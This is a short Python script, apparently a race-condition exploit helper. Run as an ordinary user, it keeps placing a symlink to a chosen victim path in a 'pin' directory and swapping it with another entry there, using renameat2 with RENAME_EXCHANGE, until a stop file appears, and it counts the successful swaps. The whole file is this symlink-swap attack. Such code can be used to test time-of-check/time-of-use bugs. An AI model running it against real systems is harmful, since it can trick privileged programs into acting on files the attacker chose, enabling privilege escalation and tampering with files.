#!/usr/bin/python3
# pin_trust.sh: as the user, swaps a symlink to the victim in and out of the pin directory until STOP exists
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
d, victim, stop = sys.argv[1], sys.argv[2], sys.argv[3]
dfd = os.open(d, os.O_DIRECTORY)
n = 0
while not os.path.exists(stop):
	try:
		os.symlink(victim, d + "/t")
	except OSError:
		pass
	for _ in range(1000):
		if libc.renameat2(dfd, b"t", dfd, b"y", 2) == 0:	# RENAME_EXCHANGE
			n += 1
print(n)
